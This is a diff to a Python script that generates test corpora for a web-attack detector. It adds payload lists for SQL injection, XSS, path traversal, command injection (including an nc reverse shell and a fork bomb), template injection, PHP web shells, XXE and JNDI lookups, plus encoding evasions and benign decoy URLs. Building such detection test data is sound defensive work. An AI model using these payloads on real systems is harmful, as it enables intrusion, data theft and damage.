@@ -739,6 +739,161 @@ TRICKY = """/search?q=select+a+size
 /search?q=tab%09separated""".strip().split("\n")
 
 
+# ---- second round (issue 21): classes the first corpus lacked, written
+# from the grammar of each language and the encodings of the tools, not
+# copied from any public list. A separate generator keeps the first
+# round's lines byte-identical.
+rnd2 = random.Random(20261206)
+
+
+def b64(s):
+    import base64
+    return base64.b64encode(s.encode()).decode()
+
+
+def e_triple(p):
+    return q(q(q(p)))
+
+
+def e_iis_u(p):  # IIS %u with fullwidth dots and slashes
+    fw = {".": "%uff0e", "/": "%u2215", "\\": "%u2216", "<": "%uff1c", ">": "%uff1e", "'": "%uff07"}
+    return "".join(fw.get(ch, ch) for ch in p)
+
+
+def e_overlong(p):  # two-byte overlong UTF-8 for the punctuation
+    return "".join("%%c0%%%02x" % (0x80 | ord(ch)) if ch in "./\\<>'\"" else ch for ch in p)
+
+
+def e_hexdot(p):  # "0x2e" spelled dots and slashes (dotdotpwn)
+    return p.replace(".", "0x2e").replace("/", "0x2f").replace("\\", "0x5c")
+
+
+def e_b64(p):
+    return q(b64(p))
+
+
+R2_ENC = [e_plain, e_pct, e_double, e_triple, e_form]
+
+SQLI_R2 = [
+    "1 OR 2>1-- -", "5 ORDER BY 22", "5 ORDER BY 22--", "7 AND (SUBSTRING((version()),1,1))=5/*",
+    "3 AND 4512=CONVERT(INT,(SELECT @@version))", "0 UNION/*!50000SELECT*/ 1,2,3",
+    "2 /*!12345UNION*/ /*!12345SELECT*/ user(),2", "9 UNION#x\nSELECT 1,2--",
+    "4 AND 8=8 -- note\nAND 2>1", "1) AND 3333=3333 AND (4444=4444", "11') AS abc WHERE 6767=6767 -- -",
+    "1;CALL REGEXP_SUBSTRING(REPEAT(RIGHT(CHAR(66),0),90000000),NULL)",
+    "1 AND 1=LIKE(CHAR(65,66),UPPER(HEX(RANDOMBLOB(300000000/2))))",
+    "1 AND ELT(5=5,SLEEP(3))", "1 RLIKE (SELECT (CASE WHEN (77=77) THEN 1 ELSE 0x28 END))",
+    "1' AND MAKE_SET(8=8,4)-- x", "1`=`1` AND SLEEP(4) AND `1`=`1", "1\\' OR 3=3 -- ",
+    "-5 OR BINARY 6=BINARY 6", "1 HAVING 12=12", "1 OR x=x--", " or 9=9#", " and 3=4 -- ",
+    "1));IF(22=22) SELECT 22 ELSE DROP FUNCTION xyz--", "1 AND 2=(SELECT 2 FROM PG_SLEEP(4))",
+    "1 OR 7=(SELECT COUNT(*) FROM GENERATE_SERIES(1,9000000))", "1 AND IIF(4=4,1,1/0)=1",
+    "1 AND 5=CASE 9 WHEN 9 THEN 5 ELSE 0 END", "x' || UTL_INADDR.GET_HOST_NAME('10.0.0.1') || '",
+    "1;EXEC master..xp_cmdshell 'ping 10.0.0.1'--", "1 UNION ALL SELECT NULL,NULL,CONCAT(0x7171,0x7172)-- -",
+]
+
+XSS_R2 = [
+    "&#X00003C;script&#X00003E;alert(1)&#X00003C;/script&#X00003E;",
+    "&#60script&#62confirm(2)&#60/script&#62",
+    "<xsl:stylesheet version=\"1.0\"><xsl:template match=\"/\"><b>x</b></xsl:template></xsl:stylesheet>",
+    "<html xmlns:v=\"urn:x\" onload=alert(4)>", "<!--[if gte IE 4]><b>x</b><![endif]-->",
+    "<isindex type=image src=1 onerror=alert(6)>", "<style>@import 'http://evil.example/x.css';</style>",
+    "\"onmouseover=prompt(7)//", "'onfocus=alert(8) autofocus x='", "x\"autofocus/onfocus=confirm(3)//",
+    "<div style=\"width:expr/**/ession(alert(9))\">", "<b style=x:ex\\pression(alert(10))>",
+    "<layer src=\"http://evil.example/a.html\"></layer>", "<bgsound src=\"javascript:alert(12)\">",
+    "<br size=\"&{alert(13)}\">", "}confirm(14);{//", " onclick=\"document.location='//evil.example'\"",
+]
+XSS_R2_B64 = ["<script>alert(11)</script>", "<svg onload=alert(15)>", "<img src=x onerror=prompt(16)>"]
+
+TRAV_R2 = [
+    "../../../etc/passwd", "../../../../windows/win.ini", "/etc/passwd", "/proc/self/environ",
+    "/proc/self/environ\x00", "/etc/mysql/my.cnf", "/var/log/nginx/error.log",
+    "/usr/local/apache2/conf/httpd.conf", "c:/inetpub/wwwroot/web.config",
+    "C:\\Windows\\System32\\drivers\\etc\\hosts", "file:/etc/shadow", "/./././etc/passwd",
+    ". ./. ./. ./etc/passwd", ".. /.. /.. /etc/group", "/opt/lampp/etc/php.ini",
+    "/home/www/conf/httpd.conf", "C:\\boot.ini", "c:windows\\win.ini", "/etc/hosts%00",
+]
+TRAV_R2_RAW = [
+    "..%c0%5c..%c0%5cboot.ini", "%e0%80%ae%e0%80%ae/%e0%80%ae%e0%80%ae/etc/hosts",
+    "%uff0e%uff0e%u2215%uff0e%uff0e%u2215etc%u2215passwd", "..%u2216..%u2216..%u2216boot.ini",
+    "%252e%252e%255c%252e%252e%255cwindows%255cwin.ini", "%25252e%25252e%25252fetc%25252fpasswd",
+    "..%c0%af..%c0%af..%c0%afetc%c0%afshadow",
+]
+
+CMDI_R2 = [
+    "x|/usr/bin/id", "&& sysinfo", "|usr/bin/id", "| dir c:/", "a;id\\x09-u", "1;uname\\x0b-a",
+    "z;cat$IFS$9/etc/passwd", "q&&cat${IFS}/etc/hosts", "cat<<<$(id)", ":(){ :|:& };:",
+    "if \"%1\"==\"\" goto end", "<!--#exec cmd=\"ls -la\"-->", "<!--#include virtual=\"/etc/passwd\"-->",
+    ";system('uname -a');", "perl -e 'system(\"id\")'", "ls -l /home/*", "cmd.exe /c dir",
+    "net user mallory P4ss /add", "& netsh advfirewall set allprofiles state off",
+    "| reg query HKLM\\Software", "nc -lvnp 4444 -e /bin/sh", "a)|whoami", "\\nid\\n",
+    "$(printf 'id')", "exec('ping -c 2 10.0.0.1')", "os.system('id')",
+]
+
+CODE_R2 = [
+    "<?php echo shell_exec($_GET['c']); ?>", "<?=`$_GET[0]`?>", "{${system('id')}}",
+    "${@phpinfo()}", "{{7*7}}", "{{7*'7'}}", "{{''.__class__.__mro__[1].__subclasses__()}}",
+    "{{config.items()}}", "${7*7}", "#{7*7}", "*{7*7}", "<%= 7*7 %>", "${{7*7}}",
+    "${T(java.lang.Runtime).getRuntime().exec('id')}", "#{T(java.lang.Runtime).getRuntime().exec('id')}",
+    "${\"freemarker.template.utility.Execute\"?new()(\"id\")}",
+    "O:8:\"stdClass\":1:{s:1:\"a\";s:1:\"b\";}", "rO0ABXNyABFqYXZhLnV0aWwuSGFzaE1hcA",
+    "aced0005737200", "<!DOCTYPE foo [<!ENTITY xxe SYSTEM \"file:///etc/passwd\">]><foo>&xxe;</foo>",
+    "';eval(base64_decode('cGhwaW5mbygpOw=='));//", ";assert($_POST[x]);",
+    "{{request.application.__globals__.__builtins__.__import__('os').popen('id').read()}}",
+    ";{$_GET[\"c\"]}", "x';phpinfo();//",
+]
+
+BENIGN_R2 = [
+    "/search?q=O%27Reilly%3B+2nd+ed.", "/search?q=%22hello+world%22%3B+test", "/search?q=rock+%27n%27+roll%3B+live",
+    "/search?q=it%27s+5+o%27clock%3B+somewhere", "/search?q=price%3A+%245+%7Bsale%7D", "/search?q=%7B%7Bname%7D%7D",
+    "/search?q=%24%7Bprice%7D+template", "/search?q=%23%7Bid%7D", "/search?q=x%3D7*7", "/search?q=(a%2Bb)*c",
+    "/search?q=order+by+price", "/search?q=union+station+chicago", "/search?q=select+committee+report",
+    "/search?q=cat+%26+dog", "/search?q=ls+-la+meaning", "/search?q=what+is+%2Fetc%2Fhosts+for",
+    "/search?q=c%3A%5Cprogram+files", "/search?q=1%3D1+meaning", "/search?q=he+said+%22stop%22%3B+she+left",
+    "/search?q=%22--force%22+option%3B+careful", "/search?q=%27--dry-run%27+flag", "/search?q=semicolons%3B+and%3B+more%3B",
+    "/search?q=Tom+%26+Jerry%3B+%22The+Movie%22", "/search?q=3%27+x+5%27+rug", "/search?q=5%27+11%22+height",
+    "/blog/union-select-guide-for-beginners", "/articles/etc/passwords-you-should-never-use",
+    "/account/orders?return=%2Faccount%2Fsettings", "/login?next=%2Fhome%2Fdashboard",
+    "/docs?redirect=%2Fdocs%2Fphp-ini-guide", "/download?file=report-2024.pdf", "/img?path=%2Fstatic%2Fimg%2Flogo.png",
+    "/landing?utm_source=google&utm_medium=cpc&utm_campaign=select_summer&utm_content=union%7Cbanner",
+    "/landing?utm_source=newsletter&utm_medium=email&utm_campaign=cat%2Fetc",
+    "/api/session?token=eyJhbGciOiJIUzI1NiIsInR5cCI6IkpXVCJ9.eyJzdWIiOiIxMjM0NTY3ODkwIiwibmFtZSI6IkpvaG4ifQ.SflKxwRJSMeKKF2QT4fwpMeJf36POk6yJV_adQssw5c",
+    "/cart?state=dGhpcyBpcyBqdXN0IGEgc3RhdGUgdG9rZW4gZm9yIHRoZSBjYXJ0", "/oauth/callback?code=Li4vaGVscA&state=x",
+    "/search?q=%26amp%3B+more", "/search?q=whoami", "/search?q=%3C3+you", "/search?q=a+%3C+b+%3E+c",
+    "/forum/search.php?keywords=how+to+use+%60ls%60+and+%60grep%60", "/search?q=sleep+8+hours",
+    "/search?q=type+2+diabetes", "/search?q=javascript%3A+the+good+parts", "/search?q=alert+(1)+meaning",
+    "/search?q=%2Fvar%2Flog+is+full%2C+what+now", "/search?q=error.log+rotation", "/search?q=drop+table+tennis",
+]
+
+
+def r2_lines(payloads, encoders, params, raw=False):
+    out = []
+    for p in payloads:
+        encs = [lambda x: x] if raw else rnd2.sample(encoders, min(3, len(encoders)))
+        for e in encs:
+            out.append("%s?%s=%s%s" % (rnd2.choice(ENDPOINTS), rnd2.choice(params), e(p),
+                                       rnd2.choice(["", "&lang=en", "&page=2"])))
+    return out
+
+
+SQLI_R2_RAW = [  # as sent: MySQL's 0xA0 blank, sqlmap's --sp_password log trick
+    "5%A0OR%A09%3D9--", "1%27%A0AND%A0SLEEP(3)%23", "1%27%20AND%201%3D1--sp_password",
+    "x%27%20or%20select%20*", "7%27%20or%20(select%201)%3D1--",
+]
+
+
+def round2():
+    sqli = r2_lines(SQLI_R2, R2_ENC + [e_sqlcomment], ["id", "item", "cat", "sort"])
+    sqli += r2_lines(SQLI_R2_RAW, [], ["id", "q"], raw=True)
+    xss = r2_lines(XSS_R2, R2_ENC, ["q", "name", "comment", "msg"])
+    xss += r2_lines(XSS_R2_B64, [e_b64], ["data", "html", "msg"])
+    trav = r2_lines(TRAV_R2, R2_ENC + [e_iis_u, e_overlong, e_hexdot], ["file", "page", "doc", "path"])
+    trav += r2_lines(TRAV_R2_RAW, [], ["file", "path"], raw=True)
+    trav += r2_lines(["../../../etc/passwd", "/etc/shadow", "..\\..\\boot.ini"], [e_b64], ["file", "f"])
+    cmdi = r2_lines(CMDI_R2, R2_ENC, ["ip", "host", "cmd", "target"])
+    code = r2_lines(CODE_R2, R2_ENC, ["q", "name", "tpl", "data", "x"])
+    exploit = ["/?x=" + q("\\u0024{jndi:ldap://x.example/a}"), "/?x=\\u0024\\u007bjndi:rmi://x.example/b}"]
+    return sqli, xss, trav, cmdi, code, exploit
+
+
 def benign_lines():
     out = list(TRICKY)
     for name in NAMES + WORDS_JA + WORDS_DE + WORDS_FR:
@@ -761,6 +916,14 @@ def benign_lines():
 def write(path, lines, header):
     with open(os.path.join(HERE, path), "w", encoding="utf-8", newline="\n") as f:
         f.write("# " + header + " (generated by gen.py; do not edit)\n")
+        for line in lines:
+            assert "\n" not in line and "\r" not in line, line
+            f.write(line + "\n")
+
+
+def append(path, lines):
+    with open(os.path.join(HERE, path), "a", encoding="utf-8", newline="\n") as f:
+        f.write("# second round (issue 21)\n")
         for line in lines:
             assert "\n" not in line and "\r" not in line, line
             f.write(line + "\n")
@@ -790,7 +953,15 @@ def main():
     write("attacks/exploit.txt", exploit_lines(), "known exploit probes")
     write("attacks/sensitive-file.txt", sensitive_lines(), "sensitive files")
     write("attacks/scanner.txt", scanner_lines(), "scanner user agents")
-    write("benign.txt", benign_lines(), "benign traffic, much of it built to fool a keyword grep")
+    benign = benign_lines()
+    sqli2, xss2, trav2, cmdi2, code2, exploit2 = round2()
+    for path, extra in (("attacks/sqli.txt", sqli2), ("attacks/xss.txt", xss2),
+                        ("attacks/traversal.txt", trav2), ("attacks/cmdi.txt", cmdi2),
+                        ("attacks/exploit.txt", exploit2)):
+        append(path, extra)
+    write("attacks/code-injection.txt", code2,
+          "server-side code injection: PHP, templates, expression languages, deserialisation, XXE")
+    write("benign.txt", benign + BENIGN_R2, "benign traffic, much of it built to fool a keyword grep")
 
 
 if __name__ == "__main__":
